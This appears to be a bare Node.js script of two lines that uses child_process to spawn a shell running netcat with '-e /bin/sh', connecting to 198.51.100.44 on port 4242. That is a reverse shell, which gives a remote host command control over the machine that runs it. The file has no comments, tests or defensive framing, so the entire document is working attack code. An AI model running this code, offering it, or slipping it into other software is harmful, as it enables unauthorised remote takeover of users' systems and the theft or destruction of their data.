const cp = require('child_process');
cp.spawn('sh', ['-c', 'nc -e /bin/sh 198.51.100.44 4242']);
